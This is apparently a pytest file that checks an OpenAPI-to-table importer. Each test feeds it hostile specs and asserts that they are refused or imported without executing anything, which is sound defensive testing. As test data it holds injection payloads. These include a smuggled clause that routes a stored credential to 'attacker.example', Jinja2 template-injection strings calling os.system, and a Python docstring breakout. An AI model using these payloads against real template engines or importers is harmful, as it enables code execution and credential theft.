"""A hostile or malformed spec fails with a ``SpecError`` or imports as exactly the
tables it describes: spec text never becomes a ``.ql`` clause, a Jinja2 expression
or Python, and no malformed node crashes the importer with anything but a
``SpecError`` naming where it is."""

from __future__ import annotations

import ast
import copy
import json
import random
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from qlgate.cli import main
from qlgate.openapi.importer import generate, patch_text, write
from qlgate.openapi.load import load_spec
from qlgate.openapi.schemas import SpecError
from qlgate.tables.params import ParamView
from qlgate.tables.registry import load_tables_dir

SPECS = Path(__file__).parent / "specs"
INJECT = "\ncreate table evil.steal on select get from \"http://attacker.example/\" using auth 'ebay.user'\n-- "


def base() -> dict[str, Any]:
    """Two operations, OAuth2 with a scope, a query, a header and a JSON body."""
    obj = {"type": "object", "properties": {"name": {"type": "string"}, "age": {"type": "integer"}}}
    return {
        "openapi": "3.0.0",
        "info": {"title": "Evil"},
        "servers": [{"url": "http://127.0.0.1:9"}],
        "components": {
            "securitySchemes": {"o": {"type": "oauth2", "flows": {"clientCredentials": {"tokenUrl": "http://x/t"}}}}
        },
        "security": [{"o": ["read"]}],
        "paths": {
            "/pets": {
                "get": {
                    "operationId": "listPets",
                    "summary": "List pets.",
                    "parameters": [
                        {"in": "query", "name": "q", "schema": {"type": "string"}},
                        {"in": "header", "name": "X-Trace", "schema": {"type": "string"}},
                    ],
                    "responses": {"200": {"content": {"application/json": {"schema": {"type": "array"}}}}},
                },
                "post": {
                    "operationId": "addPet",
                    "requestBody": {"content": {"application/json": {"schema": obj}}},
                    "responses": {"201": {"description": "ok"}},
                },
            }
        },
    }


def _op(doc: dict[str, Any], method: str = "get") -> dict[str, Any]:
    return doc["paths"]["/pets"][method]


def _code(marker: Path) -> str:
    return f"{{{{ lipsum.__globals__.os.system('touch {marker}') }}}}"


def payloads(marker: Path) -> dict[str, Callable[[dict[str, Any]], None]]:
    code = _code(marker)
    body = _op(base(), "post")["requestBody"]["content"]["application/json"]
    return {
        "newline in summary": lambda d: _op(d).update(summary="Pets." + INJECT),
        "CR, U+2028, NEL in description": lambda d: _op(d).update(description="a\rcreate\u2028table\x85x" + INJECT),
        "newline in scope": lambda d: d.update(security=[{"o": ["read" + INJECT]}]),
        "newline in query name": lambda d: _op(d)["parameters"].append({"in": "query", "name": "a" + INJECT}),
        "quotes in header name": lambda d: _op(d)["parameters"].append({"in": "header", "name": "a'b\"c"}),
        "newline in cookie name": lambda d: _op(d)["parameters"].append({"in": "cookie", "name": "c" + INJECT}),
        "NUL in summary and name": lambda d: (
            _op(d).update(summary="a\x00b" + INJECT),
            _op(d)["parameters"].append({"in": "query", "name": "n\x00"}),
        ),
        "jinja in summary": lambda d: _op(d, "post").update(summary="#}" + code + "{#"),
        "jinja in media type": lambda d: _op(d, "post")["requestBody"].update(
            content={"application/json;x=#}" + code + "{#": body}
        ),
        "jinja in path": lambda d: d["paths"].update({"/a#}" + code + "{#": d["paths"].pop("/pets")}),
        "quote in path": lambda d: d["paths"].update({'/a"b': d["paths"].pop("/pets")}),
        "block comment in summary": lambda d: _op(d).update(summary="*/ create table x.y on select get from 'z' /*"),
        "jinja and quotes in member names": lambda d: (
            body["schema"]["properties"].update(
                {'"}} ' + code + ' {{"': {"type": "string"}, "a'b\"c\n": {"type": "string"}}
            )
            or _op(d, "post")["requestBody"]["content"].update({"application/json": body})
        ),
        "quotes in operationId": lambda d: _op(d).update(operationId="x'\"y" + INJECT),
        "quotes in resultset key": lambda d: _op(d)["responses"]["200"]["content"]["application/json"].update(
            schema={"type": "object", "properties": {"a'b\"c": {"type": "array"}, "next": {"type": "string"}}}
        ),
        "newline in api key name": lambda d: (
            d["components"]["securitySchemes"].update(k={"type": "apiKey", "in": "header", "name": "K" + INJECT})
            or d.update(security=[{"k": []}])
        ),
        "docstring end in title": lambda d: d["info"].update(title='x\'"""\nimport os; os.system("touch M")\n"""'),
    }


@pytest.mark.parametrize("case", sorted(payloads(Path("/m"))))
def test_a_hostile_spec_is_refused_or_writes_exactly_its_tables(case: str, tmp_path: Path):
    marker = tmp_path / "PWNED"
    doc = base()
    payloads(marker)[case](doc)
    try:
        imported = generate(doc, "evil")
    except SpecError as e:
        assert "\n" not in str(e) and ("#/" in str(e) or "operation" in str(e))
        return
    folder = tmp_path / "tables" / "evil"
    write(imported.files, folder, force=False)
    patch = ast.parse(imported.files["evil.py"])  # the patch is still only the patch
    assert [type(n).__name__ for n in patch.body] == ["Expr", "ImportFrom", "Assign", "Assign"]
    registry, problems = load_tables_dir(tmp_path / "tables", {"tables": {"evil": {"baseUrl": "http://x"}}})
    assert problems == []
    assert sorted(registry.names()) == sorted(imported.tables)
    assert len(imported.tables) == 2
    for table in registry.tables():
        for mapping in table.mappings.values():
            assert mapping.credential == "evil"
            assert mapping.uri.raw.startswith("http://x/")
            if mapping.body is not None:
                mapping.body.render(ParamView(statement={}, variables={}), {"name": "n", "age": 3}, {})
    assert not marker.exists()


def test_parameters_with_unwritable_names_are_left_out_with_a_warning():
    doc = base()
    _op(doc)["parameters"].append({"in": "query", "name": "a b\nc"})
    imported = generate(doc, "evil")
    assert any("#/paths/~1pets/get/parameters/2" in w for w in imported.warnings)
    assert "left out" in imported.files["listPets.ql"]


def test_the_patch_module_quotes_any_title_safely():
    for title in ['x\'"""\nimport os\n"""', 'a\\"""b', "Pet Shop"]:
        module = ast.parse(patch_text(title))
        assert [type(n).__name__ for n in module.body] == ["Expr", "ImportFrom", "Assign", "Assign"]


# ------------------------------------------------------------------ malformed specs

MALFORMED = [
    {"openapi": "3.0.0", "paths": {"/a": {"get": {"parameters": 5}}}},
    {"openapi": "3.0.0", "servers": 5, "paths": {"/a": {"get": {}}}},
    {"swagger": "2.0", "schemes": {"a": 1}, "paths": {"/a": {"get": {}}}},
    {"openapi": "3.0.0", "paths": {"/a": {"get": {"operationId": 5}}}},
    {"openapi": "3.0.0", "paths": {"/a": {"get": {"responses": {"200": {"content": {"a/b": {"schema": 5}}}}}}}},
    {"openapi": "3.0.0", "paths": {"/a": {"post": {"requestBody": {"content": {"a/json": {"schema": {"allOf": 5}}}}}}}},
    {"openapi": "3.0.0", "paths": {"/a": {"get": {"parameters": [{"in": "query", "name": ["x"]}]}}}},
]


@pytest.mark.parametrize("doc", MALFORMED, ids=range(len(MALFORMED)))
def test_a_malformed_spec_is_a_spec_error_naming_the_node(doc: dict[str, Any]):
    with pytest.raises(SpecError, match=r"^#/\S*: expected "):
        generate(doc, "p")


def test_the_message_names_the_json_pointer():
    with pytest.raises(SpecError) as e:
        generate(MALFORMED[0], "p")
    assert str(e.value) == "#/paths/~1a/get/parameters: expected a list, got a number"


def test_the_command_prints_the_error_and_exits_non_zero(tmp_path: Path, capsys):
    spec = tmp_path / "bad.json"
    spec.write_text(json.dumps(MALFORMED[0]))
    assert main(["import", "openapi", str(spec), "--name", "p", "--out", str(tmp_path / "out")]) != 0
    captured = capsys.readouterr()
    assert "expected a list" in captured.out + captured.err and "Traceback" not in captured.out + captured.err


JUNK: list[Any] = [None, 5, 1.5, "x", "", [], {}, [1], {"a": 1}, True, [None], {"$ref": "#/nope"}, {"$ref": 5}]
JUNK += [{"$ref": "#/"}, "{x}", -1, "a\nb'\"{{", {"type": 5}, {"properties": []}, {"items": [1]}, {"required": 3}]


def _nodes(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    yield path
    if isinstance(value, dict):
        for k, v in value.items():
            yield from _nodes(v, (*path, k))
    elif isinstance(value, list):
        for i, v in enumerate(value):
            yield from _nodes(v, (*path, i))


def _mutate(doc: dict[str, Any], rng: random.Random) -> dict[str, Any]:
    out = copy.deepcopy(doc)
    for _ in range(rng.randint(1, 3)):
        path = rng.choice([p for p in _nodes(out) if p])
        parent: Any = out
        for key in path[:-1]:
            parent = parent[key]
        if isinstance(parent, dict) and rng.random() < 0.2:  # a hostile key
            parent[rng.choice(["a\nb", "{{x}}", "'\"", "/a", "200", "$ref"])] = parent.pop(path[-1])
        else:
            parent[path[-1]] = copy.deepcopy(rng.choice(JUNK))
    return out


def test_mutated_specs_fail_only_with_spec_errors():
    """A bounded fuzz: 1500 seeded mutations of the two test specs."""
    rng = random.Random(20240601)
    docs = [load_spec(SPECS / "petshop.yaml"), load_spec(SPECS / "weather.json"), base()]
    for i in range(1500):
        doc = _mutate(docs[i % len(docs)], rng)
        try:
            generate(doc, "p")
        except SpecError:
            pass
        except Exception as e:  # pragma: no cover - the failure message
            raise AssertionError(f"{type(e).__name__}: {e} on {json.dumps(doc)[:2000]}") from e
